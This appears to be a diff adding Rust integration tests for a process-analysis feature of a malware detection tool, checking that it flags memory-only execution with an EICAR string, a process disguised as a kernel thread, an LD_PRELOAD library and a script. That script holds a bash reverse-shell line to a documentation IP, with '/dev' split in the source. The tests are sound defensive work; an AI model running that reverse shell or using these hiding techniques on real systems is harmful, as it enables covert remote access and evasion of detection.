@@ -1,0 +1,126 @@
+//! `analyze process`: what runs from memory, was made to load something, or hides what it is.
+
+use std::fs::File;
+use std::io::Write;
+use std::os::fd::AsRawFd;
+use std::os::unix::process::CommandExt;
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+
+use lrsh::protocol::Status;
+use serde_json::Value;
+
+use super::analyze::{eicar, evidence};
+use crate::kit::device::Device;
+
+/// A process that is ended with the test.
+struct Running(Child);
+
+impl Drop for Running {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+fn start(command: &mut Command) -> Running {
+    Running(command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap())
+}
+
+fn judged(device: &Device, running: &Running) -> Value {
+    let pid = running.0.id().to_string();
+    let answer = device.run("analyze", &[("type", "process"), ("id", &pid)], &[]);
+    assert_eq!(answer.completed.status, Status::Completed, "{:?}", answer.completed);
+    assert_eq!(answer.seen()[0].key, pid);
+    answer.object()
+}
+
+/// `sleep` with something behind its end, which no loader minds.
+fn sleep_with(tail: &[u8]) -> Vec<u8> {
+    [&std::fs::read("/bin/sleep").unwrap(), tail].concat()
+}
+
+#[test]
+fn a_program_in_memory_is_found_with_what_it_carries() {
+    let device = Device::live();
+    let memfd = rustix::fs::memfd_create("update", rustix::fs::MemfdFlags::CLOEXEC).unwrap();
+    let mut file = File::from(memfd);
+    file.write_all(&sleep_with(eicar().as_bytes())).unwrap();
+    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
+    let running = start(Command::new(path).arg0("sleep").arg("1000"));
+    let told = judged(&device, &running);
+    assert_eq!(told["verdict"], "malicious", "{told}");
+    let found = evidence(&told);
+    for wanted in ["builtin eicar_test_file 100", "process memfd 60"] {
+        assert!(found.iter().any(|one| one == wanted), "{wanted}: {told}");
+    }
+}
+
+#[test]
+fn an_image_that_is_gone_and_a_disguise_are_found() {
+    let device = Device::live();
+    let folder = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+    let image = folder.path().join("daemon");
+    std::fs::copy("/bin/sleep", &image).unwrap();
+    let running = start(Command::new(&image).arg0("[kworker/0:1]").arg("1000"));
+    assert_eq!(evidence(&judged(&device, &running)), ["process disguise 60"]);
+    // Replaced, as an update does it; then gone.
+    std::fs::copy("/bin/sleep", folder.path().join("new")).unwrap();
+    std::fs::rename(folder.path().join("new"), &image).unwrap();
+    assert_eq!(evidence(&judged(&device, &running)), ["process disguise 60", "process deleted 10"]);
+    std::fs::remove_file(&image).unwrap();
+    assert_eq!(evidence(&judged(&device, &running)), ["process disguise 60", "process deleted 40"]);
+}
+
+#[test]
+fn a_preloaded_library_is_found() {
+    let device = Device::live();
+    let folder = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+    let library = folder.path().join("hook.so");
+    // A library that the loader takes: any will do, by a name that no package owns.
+    std::fs::copy(library_of("/bin/sleep"), &library).unwrap();
+    let running = start(Command::new("/bin/sleep").arg("1000").env("LD_PRELOAD", &library));
+    let told = judged(&device, &running);
+    let found = told["evidence"].as_array().unwrap().iter().find(|found| found["rule"] == "preload").unwrap();
+    assert_eq!((found["engine"].as_str(), found["weight"].as_u64()), (Some("process"), Some(60)), "{told}");
+    assert!(found["what"].as_str().unwrap().contains(library.to_str().unwrap()), "{told}");
+    assert_eq!(told["verdict"], "suspicious");
+}
+
+/// A library that a program loads.
+fn library_of(program: &str) -> String {
+    let out = Command::new("ldd").arg(program).output().unwrap();
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    text.lines().find_map(|line| line.split("=> ").nth(1)?.split(' ').next().map(ToOwned::to_owned)).unwrap()
+}
+
+#[test]
+fn the_script_of_an_interpreter_is_looked_at() {
+    let device = Device::live();
+    let folder = tempfile::tempdir().unwrap();
+    let script = folder.path().join("job.sh");
+    let dev = "dev";
+    std::fs::write(&script, format!("sleep 1000\nbash -i >& /{dev}/tcp/192.0.2.1/4444 0>&1\n")).unwrap();
+    let running = start(Command::new("/bin/sh").arg(&script));
+    let told = judged(&device, &running);
+    assert_eq!(told["evidence"][0]["rule"], "reverse_shell", "{told}");
+    assert!(told["evidence"][0]["place"].as_str().unwrap().contains("job.sh"), "{told}");
+    // Its child keeps nothing of this test.
+    let children = std::fs::read_to_string(format!("/proc/{0}/task/{0}/children", running.0.id())).unwrap_or_default();
+    drop(running);
+    for child in children.split_whitespace() {
+        let pid = rustix::process::Pid::from_raw(child.parse().unwrap()).unwrap();
+        let _ = rustix::process::kill_process(pid, rustix::process::Signal::KILL);
+    }
+}
+
+#[test]
+fn an_ordinary_process_is_clean_and_none_is_an_error() {
+    let device = Device::live();
+    let running = start(Command::new("/bin/sleep").arg("1000"));
+    let told = judged(&device, &running);
+    assert_eq!((told["verdict"].as_str(), told["score"].as_u64()), (Some("clean"), Some(0)), "{told}");
+    assert!(Path::new(told["path"].as_str().unwrap()).ends_with("sleep"));
+    let answer = device.run("analyze", &[("type", "process"), ("id", "4194304")], &[]);
+    assert_eq!((answer.completed.status, answer.completed.errors[0].code.as_str()), (Status::Failed, "not_found"));
+}
